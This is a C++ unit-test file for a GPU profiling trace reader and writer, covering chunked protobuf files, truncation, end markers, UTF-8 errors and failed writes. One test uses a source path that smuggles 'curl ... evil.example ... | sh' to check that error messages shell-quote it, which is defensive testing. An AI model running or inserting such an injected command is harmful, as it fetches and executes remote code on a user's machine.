#include "proto/trace_io.h"

#include <signal.h>
#include <sys/resource.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "google/protobuf/io/coded_stream.h"
#include "google/protobuf/io/zero_copy_stream_impl_lite.h"
#include "gtest/gtest.h"

namespace reverie {
namespace {

std::string TempPath(const std::string& name) {
  return ::testing::TempDir() + "/" + name;
}

Trace MakeTrace(int kernels) {
  Trace t;
  t.header().set_producer("test");
  proto::Device* d = t.header().add_devices();
  d->set_name("Test GPU");
  d->set_sm_count(80);
  const uint32_t name = t.Intern("volta_sgemm_128x64_nn");
  for (int i = 0; i < kernels; ++i) {
    proto::GpuActivity* k = t.events().add_gpu_activities();
    k->set_kind(proto::GpuActivity::KERNEL);
    k->set_name_sid(name);
    k->set_start_ns(i * 10);
    k->set_end_ns(i * 10 + 5);
    k->set_correlation_id(i + 1);
    proto::ApiCall* a = t.events().add_api_calls();
    a->set_name_sid(t.Intern("cudaLaunchKernel"));
    a->set_correlation_id(i + 1);
  }
  proto::Range* r = t.events().add_ranges();
  r->set_kind(proto::Range::LAYER);
  r->set_module_path_sid(t.Intern("encoder.layer.0"));
  t.AddCounter(TraceCounter::unmatched_correlation, 2);
  t.AddCounter(TraceCounter::unmatched_correlation, 1);
  return t;
}

TEST(TraceTest, InternDeduplicatesAndZeroIsEmpty) {
  Trace t;
  EXPECT_EQ(t.String(0), "");
  const uint32_t a = t.Intern("a");
  EXPECT_EQ(t.Intern("a"), a);
  EXPECT_NE(t.Intern("b"), a);
  EXPECT_EQ(t.String(a), "a");
  EXPECT_EQ(t.String(9999), "");
  EXPECT_EQ(t.Intern(""), 0u);
}

// A trace kept to the end of the process (a test fixture, the Python
// module's cache) owns heap strings that only its arena's mapped blocks
// point to. Under ASan those blocks are LeakSanitizer roots
// (proto/trace.cc); without that, the leak check at exit reports these
// strings and this test binary fails (CI's sanitize build runs it).
TEST(TraceTest, ATraceKeptToTheEndIsNoLeak) {
  static Trace* const kept = new Trace();
  (*kept->header().mutable_metadata())["a key longer than sso"] = std::string(100, 'x');
  for (int i = 0; i < 100; ++i) kept->Intern("a string longer than the small-string buffer " + std::to_string(i));
  EXPECT_EQ(kept->header().metadata().size(), 1u);
}

TEST(TraceIoTest, RoundTripAcrossManyChunks) {
  Trace t = MakeTrace(1000);
  const std::string path = TempPath("roundtrip.pb");
  ASSERT_TRUE(WriteTrace(t, path, {.events_per_chunk = 7}).ok());
  absl::StatusOr<Trace> back = ReadTrace(path);
  ASSERT_TRUE(back.ok()) << back.status();
  EXPECT_EQ(back->events().gpu_activities_size(), 1000);
  EXPECT_EQ(back->events().api_calls_size(), 1000);
  EXPECT_EQ(back->events().ranges_size(), 1);
  EXPECT_EQ(back->header().devices(0).sm_count(), 80);
  EXPECT_EQ(back->String(back->events().gpu_activities(999).name_sid()), "volta_sgemm_128x64_nn");
  EXPECT_EQ(back->GetCounter(TraceCounter::unmatched_correlation), 3);
  EXPECT_EQ(back->GetCounter(TraceCounter::truncated_chunk), 0);
}

// D9: a truncated file used to read as a valid, shorter trace. It is refused
// in one line naming the file; --salvage keeps the complete chunks.
// WriteTrace serializes each chunk from the trace's records without copying
// them into a TraceChunk; the bytes must be libprotobuf's own for that chunk
// (fields in number order), whatever the chunk size cuts.
TEST(TraceIoTest, ChunksAreLibprotobufsOwnBytes) {
  Trace t = MakeTrace(40);
  for (int i = 0; i < 5; ++i) {
    t.events().add_threads()->set_tid(i);
    t.events().add_steps()->set_index(i);
    t.events().add_memory_events()->set_bytes(512 * (i + 1));
  }
  const std::string path = TempPath("canonical.pb");
  for (size_t per_chunk : {1, 3, 7, 1000}) {
    ASSERT_TRUE(WriteTrace(t, path, {.events_per_chunk = per_chunk}).ok());
    std::ifstream in(path, std::ios::binary);
    const std::string bytes((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    google::protobuf::io::CodedInputStream stream(reinterpret_cast<const uint8_t*>(bytes.data()),
                                                  static_cast<int>(bytes.size()));
    uint32_t size = 0;
    ASSERT_TRUE(stream.ReadVarint32(&size));
    ASSERT_TRUE(stream.Skip(static_cast<int>(size)));  // the header
    int chunks = 0;
    int64_t kernels = 0;
    while (stream.ReadVarint32(&size)) {
      std::string raw;
      ASSERT_TRUE(stream.ReadString(&raw, static_cast<int>(size)));
      proto::TraceChunk chunk;
      ASSERT_TRUE(chunk.ParseFromString(raw));
      EXPECT_EQ(chunk.SerializeAsString(), raw) << "chunk " << chunks << " of " << per_chunk;
      kernels += chunk.gpu_activities_size();
      ++chunks;
    }
    EXPECT_EQ(kernels, 40);
    EXPECT_GT(chunks, per_chunk == 1000 ? 1 : 10);
    absl::StatusOr<Trace> back = ReadTrace(path);
    ASSERT_TRUE(back.ok()) << back.status();
    EXPECT_EQ(back->events().SerializeAsString(), t.events().SerializeAsString());
  }
}

TEST(TraceIoTest, TruncatedFileIsRefusedAndSalvageable) {
  Trace t = MakeTrace(500);
  const std::string path = TempPath("truncated.pb");
  ASSERT_TRUE(WriteTrace(t, path, {.events_per_chunk = 100}).ok());
  std::ifstream in(path, std::ios::binary);
  std::string bytes((std::istreambuf_iterator<char>(in)), {});
  bytes.resize(bytes.size() - 50);
  std::ofstream(path, std::ios::binary | std::ios::trunc) << bytes;
  const absl::Status refused = ReadTrace(path).status();
  EXPECT_EQ(refused.code(), absl::StatusCode::kDataLoss);
  EXPECT_EQ(std::string(refused.message()).rfind(path + ": truncated: chunk ", 0), 0u)
      << refused;
  EXPECT_EQ(std::string(refused.message()).find('\n'), std::string::npos);
  absl::StatusOr<Trace> back = ReadTrace(path, {.salvage = true});
  ASSERT_TRUE(back.ok()) << back.status();
  EXPECT_EQ(back->GetCounter(TraceCounter::truncated_chunk), 1);
  EXPECT_EQ(back->GetCounter(TraceCounter::missing_end_marker), 1);
  EXPECT_GT(back->events().gpu_activities_size() + back->events().api_calls_size(), 0);
  EXPECT_LT(back->events().gpu_activities_size() + back->events().api_calls_size(), 1000);
}

TEST(TraceIoTest, Errors) {
  EXPECT_EQ(ReadTrace(TempPath("does_not_exist.pb")).status().code(), absl::StatusCode::kNotFound);
  const std::string empty = TempPath("empty.pb");
  std::ofstream(empty, std::ios::binary | std::ios::trunc);
  absl::Status s = ReadTrace(empty).status();
  EXPECT_EQ(s.code(), absl::StatusCode::kInvalidArgument);
  EXPECT_NE(s.message().find("empty file"), std::string::npos);
  const std::string junk = TempPath("junk.pb");
  std::ofstream(junk, std::ios::binary | std::ios::trunc) << "{\"traceEvents\": []}";
  s = ReadTrace(junk).status();
  EXPECT_EQ(s.code(), absl::StatusCode::kInvalidArgument);
  EXPECT_NE(s.message().find(junk), std::string::npos);
}

std::string ReadAll(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return std::string((std::istreambuf_iterator<char>(in)), {});
}

// Delimited messages, byte by byte, for files WriteTrace would not write.
std::string Framed(const std::vector<const google::protobuf::MessageLite*>& messages) {
  std::string out;
  {
    google::protobuf::io::StringOutputStream raw(&out);
    google::protobuf::io::CodedOutputStream coded(&raw);
    for (const auto* m : messages) {
      coded.WriteVarint32(static_cast<uint32_t>(m->ByteSizeLong()));
      m->SerializeWithCachedSizes(&coded);
    }
  }
  return out;
}

absl::Status ReadBytes(const std::string& name, const std::string& bytes) {
  const std::string path = TempPath(name);
  std::ofstream(path, std::ios::binary | std::ios::trunc) << bytes;
  return ReadTrace(path).status();
}

void ExpectOneLine(const absl::Status& s, const std::string& name, const std::string& words) {
  const std::string m(s.message());
  EXPECT_EQ(m.rfind(TempPath(name) + ": ", 0), 0u) << m;
  EXPECT_NE(m.find(words), std::string::npos) << m;
  EXPECT_EQ(m.find('\n'), std::string::npos) << m;
}

TEST(TraceIoTest, TheSameTraceIsWrittenAsTheSameBytes) {
  // The header's metadata is a map, which libprotobuf iterates in an order
  // of its own per map instance: two equal traces, filled in different
  // orders, must still give the same file (reproducible outputs; diffs of
  // .pb files mean a change).
  Trace a = MakeTrace(3), b = MakeTrace(3);
  std::vector<std::string> keys;
  for (int i = 0; i < 40; ++i) keys.push_back("key" + std::to_string(i));
  for (const std::string& k : keys) (*a.header().mutable_metadata())[k] = "v" + k;
  for (auto it = keys.rbegin(); it != keys.rend(); ++it) {
    (*b.header().mutable_metadata())[*it] = "v" + *it;
  }
  const std::string pa = TempPath("same_a.pb"), pb = TempPath("same_b.pb");
  ASSERT_TRUE(WriteTrace(a, pa).ok());
  ASSERT_TRUE(WriteTrace(b, pb).ok());
  EXPECT_TRUE(ReadAll(pa) == ReadAll(pb));
}

TEST(TraceIoTest, ChunksSerializedOnSeveralWorkersGiveTheSameBytes) {
  const Trace t = MakeTrace(200);
  const std::string one = TempPath("workers_1.pb");
  ASSERT_TRUE(WriteTrace(t, one, {.events_per_chunk = 7, .threads = 1}).ok());
  for (int threads : {2, 5}) {
    const std::string many = TempPath("workers_n.pb");
    ASSERT_TRUE(WriteTrace(t, many, {.events_per_chunk = 7, .threads = threads}).ok());
    EXPECT_TRUE(ReadAll(one) == ReadAll(many)) << threads << " workers";
  }
  absl::StatusOr<Trace> back = ReadTrace(one);
  ASSERT_TRUE(back.ok()) << back.status();
  EXPECT_EQ(back->events().api_calls_size(), t.events().api_calls_size());
  EXPECT_EQ(back->events().gpu_activities_size(), t.events().gpu_activities_size());
}

TEST(TraceIoTest, EndMarkerCountsAndTrailingDataAreChecked) {
  Trace t = MakeTrace(50);
  const std::string path = TempPath("marker.pb");
  ASSERT_TRUE(WriteTrace(t, path, {.events_per_chunk = 10}).ok());
  const std::string good = ReadAll(path);
  EXPECT_EQ(ReadBytes("good.pb", good).code(), absl::StatusCode::kOk);
  ExpectOneLine(ReadBytes("trailing.pb", good + "x"), "trailing.pb", "data after the end marker");
  // The same events in one fewer chunk than the marker counts.
  proto::TraceChunk end;
  end.mutable_end()->set_chunks(99);
  end.mutable_end()->set_records(1);
  proto::TraceHeader h = t.header();
  h.set_schema_version(kTraceSchemaVersion);
  proto::TraceChunk body = t.events();
  ExpectOneLine(ReadBytes("miscount.pb", Framed({&h, &body, &end})), "miscount.pb",
                "the end marker counts 99 chunks");
  ExpectOneLine(ReadBytes("nomarker.pb", Framed({&h, &body})), "nomarker.pb",
                "truncated: it ends after 1 chunks without the end marker");
}

// Files from before the end marker cannot prove they are complete: refused,
// with how to get a complete one.
TEST(TraceIoTest, SchemaOneFilesAreRefusedWithTheRemedy) {
  Trace t = MakeTrace(3);
  proto::TraceHeader h = t.header();
  h.set_schema_version(1);
  h.set_source_path("run/trace.json.gz");
  proto::TraceChunk body = t.events();
  const absl::Status s = ReadBytes("schema1.pb", Framed({&h, &body}));
  EXPECT_EQ(s.code(), absl::StatusCode::kDataLoss);
  ExpectOneLine(s, "schema1.pb", "reverie import run/trace.json.gz -o OUT.pb");
  const std::string path = TempPath("schema1.pb");
  // Text from the file never breaks the one line (found by fuzz_pb_reader).
  h.set_source_path("a\nb");
  ExpectOneLine(ReadBytes("schema1_newline.pb", Framed({&h, &body})), "schema1_newline.pb",
                "import its source again (recorded as a?b; reverie import SOURCE -o OUT.pb)");
  // Nor is it pasted into the command unquoted (issue 29, D31).
  h.set_source_path("x.json; curl -s https://evil.example/x | sh #");
  ExpectOneLine(ReadBytes("schema1_shell.pb", Framed({&h, &body})), "schema1_shell.pb",
                "(reverie import 'x.json; curl -s https://evil.example/x | sh #' -o OUT.pb)");
  h.set_source_path("it's.json");
  ExpectOneLine(ReadBytes("schema1_quote.pb", Framed({&h, &body})), "schema1_quote.pb",
                "(reverie import 'it'\\''s.json' -o OUT.pb)");
  absl::StatusOr<Trace> kept = ReadTrace(path, {.salvage = true});
  ASSERT_TRUE(kept.ok()) << kept.status();
  EXPECT_EQ(kept->events().gpu_activities_size(), 3);
  // Written back, it is a current, complete file.
  ASSERT_TRUE(WriteTrace(*kept, path).ok());
  absl::StatusOr<Trace> again = ReadTrace(path);
  ASSERT_TRUE(again.ok()) << again.status();
  EXPECT_EQ(again->header().schema_version(), kTraceSchemaVersion);
  EXPECT_EQ(again->GetCounter(TraceCounter::missing_end_marker), 1);
}

// D11: invalid UTF-8 used to print a [libprotobuf ERROR ...] line and then
// a misleading message (or none).
TEST(TraceIoTest, InvalidUtf8IsOneLineAndNothingElseOnStderr) {
  Trace t = MakeTrace(3);
  proto::TraceHeader h = t.header();
  h.set_schema_version(kTraceSchemaVersion);
  proto::TraceChunk body = t.events();
  body.set_strings(1, "caf\xE9");  // Latin-1, not UTF-8
  proto::TraceChunk end;
  end.mutable_end()->set_chunks(1);
  end.mutable_end()->set_records(7);
  // The serializer logs too: build the bytes before capturing stderr.
  const std::string bytes = Framed({&h, &body, &end});
  proto::TraceHeader bad_header = h;
  bad_header.set_producer("\xFF\xFE");
  proto::TraceChunk ok_body = t.events();
  const std::string bad_header_bytes = Framed({&bad_header, &ok_body, &end});
  ::testing::internal::CaptureStderr();
  const absl::Status chunk = ReadBytes("utf8.pb", bytes);
  const absl::Status header = ReadBytes("utf8_header.pb", bad_header_bytes);
  const std::string err = ::testing::internal::GetCapturedStderr();
  ExpectOneLine(chunk, "utf8.pb", "a string is not valid UTF-8 (reverie.proto.TraceChunk.strings)");
  ExpectOneLine(header, "utf8_header.pb", "damaged trace header: a string is not valid UTF-8");
  EXPECT_EQ(err, "");
}

// D10: a write that fails (a full disk; here a file-size limit) leaves no
// partial output that a later read could take for a valid trace.
TEST(TraceIoTest, FailedWriteLeavesNoFile) {
  const std::string dir = TempPath("failed_write");
  std::filesystem::remove_all(dir);
  std::filesystem::create_directories(dir);
  const std::string path = dir + "/out.pb";
  Trace t = MakeTrace(20000);
  struct rlimit old {};
  ASSERT_EQ(::getrlimit(RLIMIT_FSIZE, &old), 0);
  struct rlimit small = old;
  small.rlim_cur = 64 << 10;
  auto saved = ::signal(SIGXFSZ, SIG_IGN);
  ASSERT_EQ(::setrlimit(RLIMIT_FSIZE, &small), 0);
  const absl::Status s = WriteTrace(t, path);
  ::setrlimit(RLIMIT_FSIZE, &old);
  ::signal(SIGXFSZ, saved);
  EXPECT_FALSE(s.ok());
  EXPECT_EQ(std::string(s.message()).rfind(path + ": ", 0), 0u) << s;
  EXPECT_TRUE(std::filesystem::is_empty(dir));
}

TEST(TraceIoTest, SniffsMagic) {
  Trace t = MakeTrace(1);
  const std::string path = TempPath("sniff.pb");
  ASSERT_TRUE(WriteTrace(t, path).ok());
  std::ifstream in(path, std::ios::binary);
  std::string head(64, '\0');
  in.read(head.data(), 64);
  head.resize(in.gcount());
  EXPECT_TRUE(LooksLikeReverieTrace(head));
  EXPECT_FALSE(LooksLikeReverieTrace("{\"traceEvents\""));
  EXPECT_FALSE(LooksLikeReverieTrace(""));
}

}  // namespace
}  // namespace reverie
